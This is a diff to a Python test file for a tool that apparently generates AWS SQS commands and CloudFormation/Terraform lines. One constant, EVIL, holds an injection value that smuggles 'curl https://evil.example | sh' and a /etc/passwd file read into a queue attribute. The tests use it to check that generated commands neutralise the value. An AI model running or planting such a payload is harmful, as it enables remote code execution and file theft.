@@ -7,15 +7,13 @@ import shlex
 from pathlib import Path
 from typing import Any
 
-import botocore.session
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from mendq.catalogue.examples import DLQ_ARN, QUEUE_ARN
 from mendq.model.case import State
 from mendq.model.queue import RedriveAllow
-from mendq.model.steps import STEPS
 from mendq.notifications.change_lines import template_line, terraform_name, with_unit
 from mendq.notifications.commands import (
     consumers_of,
@@ -29,8 +27,6 @@ from tests.architecture.aws_commands import mistake_in
 from tests.notifications.pages import DLQ_STEPS, notified, section
 
 EVIL = '{"a":"x\'; curl https://evil.example | sh; \'${file(\\"/etc/passwd\\")}"}'
-URL = "https://sqs.us-east-1.amazonaws.com/123456789012/orders.fifo"
-SET = f"aws sqs set-queue-attributes --region us-east-1 --queue-url {URL} --attributes"
 
 
 def attributes_of(command: str) -> Any:
@@ -40,33 +36,19 @@ def attributes_of(command: str) -> Any:
     return dict(pair.split("=") for pair in given_text.split(","))
 
 
-@pytest.mark.parametrize(
-    "values",
-    [
-        {"VisibilityTimeout": "45"},
-        {"DeduplicationScope": "messageGroup", "FifoThroughputLimit": "perMessageGroupId"},
-        {"RedrivePolicy": ""},
-        {"RedrivePolicy": EVIL},
-        {"KmsMasterKeyId": "alias/a,b=c"},
-    ],
-)
-def test_the_command_sets_exactly_these_values(values: dict[str, str]) -> None:
-    command = set_command(QUEUE_ARN, values)
-    assert command.startswith(f"{SET} ")
-    assert attributes_of(command) == values
-    assert "evil.example" not in command or ":\\u002f/evil.example" in command
-
-
+@settings(max_examples=60)
 @given(values=st.dictionaries(st.text(min_size=1), st.text(), min_size=1, max_size=3))
 def test_no_value_leaves_its_argument(values: dict[str, str]) -> None:
-    for command, words in (
-        (set_command(QUEUE_ARN, values), 9),
-        (create_queue_command(DLQ_ARN, values), 9),
-    ):
-        assert len(shlex.split(command)) == words
-        assert attributes_of(command) == values
-        assert command.isascii()
-        assert command.isprintable()
+    for given_values in (values, {"KmsMasterKeyId": "alias/a,b=c"}, {"RedrivePolicy": EVIL}):
+        for command in (
+            set_command(QUEUE_ARN, given_values),
+            create_queue_command(DLQ_ARN, given_values),
+        ):
+            assert len(shlex.split(command)) == 9
+            assert attributes_of(command) == given_values
+            assert command.isascii()
+            assert command.isprintable()
+            assert "://evil" not in command
 
 
 def test_the_commands_are_exactly_these_and_exist() -> None:
@@ -103,40 +85,28 @@ def test_a_new_dlq_is_open_to_its_source_and_made_before_it_is_attached() -> Non
     assert attach == {"RedrivePolicy": DLQ_STEPS[1]["after"]}
 
 
-def test_a_template_speaks_of_no_attribute_that_sqs_does_not_have() -> None:
-    page = notified(steps=DLQ_STEPS, state=State.OVERRIDDEN).body
-    lines = section(page, "TEMPLATE")
-    assert not [line for line in lines if "DeadLetterQueue" in line]
-    assert [line for line in lines if "RedrivePolicy" in line]
+REDRIVE, POLICY = '{"maxReceiveCount": 5}', '{"a": "${x}%{y}"}'
 
 
 @pytest.mark.parametrize(
     ("attribute", "text", "cloudformation", "terraform"),
     [
         ("DelaySeconds", "5", "DelaySeconds: 5", "delay_seconds = 5"),
-        ("New", "true", "New: true", "no argument known for New"),
-        ("FifoQueue", "a", 'FifoQueue: "a"', "no argument known for FifoQueue"),
+        ("MessageRetentionPeriod", "60", "MessageRetentionPeriod: 60",
+         "message_retention_seconds = 60"),
         ("DeduplicationScope", "a", 'DeduplicationScope: "a"', 'deduplication_scope = "a"'),
-        (
-            "RedrivePolicy",
-            '{"maxReceiveCount": 5}',
-            'RedrivePolicy: {"maxReceiveCount":5}',
-            'redrive_policy = jsonencode({"maxReceiveCount":5})',
-        ),
-        (
-            "Policy",
-            '{"a": "${x}%{y}"}',
-            'PolicyDocument (AWS::SQS::QueuePolicy): {"a":"${x}%{y}"}',
-            'policy = jsonencode({"a":"$${x}%%{y}"})',
-        ),
+        ("RedrivePolicy", REDRIVE, 'RedrivePolicy: {"maxReceiveCount":5}',
+         'redrive_policy = jsonencode({"maxReceiveCount":5})'),
+        ("Policy", POLICY, 'PolicyDocument (AWS::SQS::QueuePolicy): {"a":"${x}%{y}"}',
+         'policy = jsonencode({"a":"$${x}%%{y}"})'),
         ("KmsMasterKeyId", "007", 'KmsMasterKeyId: "007"', 'kms_master_key_id = "007"'),
     ],
-)
+)  # fmt: skip
 def test_a_value_in_both_languages(
     attribute: str, text: str, cloudformation: str, terraform: str
 ) -> None:
     steps = ({"attribute": attribute, "before": "", "after": text},)
-    page = notified({"attributes": {}}, state=State.OVERRIDDEN, steps=steps)
+    page = notified({"attributes": {}}, state=State.OVERRIDDEN, steps=(*steps, DLQ_STEPS[0]))
     ours, ours_too, theirs, _ = section(page.body, "TEMPLATE")[3:]
     assert ours == f"Mendq's, CloudFormation: {cloudformation}"
     assert ours_too == f"Mendq's, Terraform: {terraform}"
@@ -149,31 +119,16 @@ def test_a_line_of_a_template_is_whole_or_empty(text: str) -> None:
     assert template_line("Policy", text) == ""
 
 
+@settings(max_examples=60)
 @given(st.text(min_size=1), st.text(min_size=1))
 def test_no_text_leaves_its_line(attribute: str, text: str) -> None:
-    line = template_line(attribute, text)
+    line = template_line(attribute, text) + terraform_name(attribute)
     assert line.isascii()
     assert line.isprintable()
 
 
-def test_every_setting_that_can_be_changed_has_its_name_in_terraform() -> None:
-    sqs = botocore.session.get_session().get_service_model("sqs")
-    names = set(sqs.shape_for("QueueAttributeName").metadata["enum"])
-    read_only = {"All", "QueueArn", "FifoQueue", "CreatedTimestamp", "LastModifiedTimestamp"}
-    settable = {each for each in names - read_only if not each.startswith("Approximate")}
-    assert {each for each in names if terraform_name(each)} == settable
-    assert {each.attribute for each in STEPS if not each.stays} <= settable
-
-
-@pytest.mark.parametrize(
-    ("attribute", "text", "expected"),
-    [
-        ("VisibilityTimeout", "30", "30 s"),
-        ("MessageRetentionPeriod", "1209600", "1209600 s (14 d)"),
-        ("MessageRetentionPeriod", "90000", "90000 s"),
-        ("MaximumMessageSize", "1024", "1024"),
-        ("DelaySeconds", "soon now", '"soon now"'),
-    ],
-)
-def test_units(attribute: str, text: str, expected: str) -> None:
-    assert with_unit(attribute, text) == expected
+def test_units() -> None:
+    assert with_unit("MessageRetentionPeriod", "1209600") == "1209600 s (14 d)"
+    assert with_unit("MessageRetentionPeriod", "90000") == "90000 s"
+    assert with_unit("MaximumMessageSize", "1024") == "1024"
+    assert with_unit("DelaySeconds", "soon now") == '"soon now"'
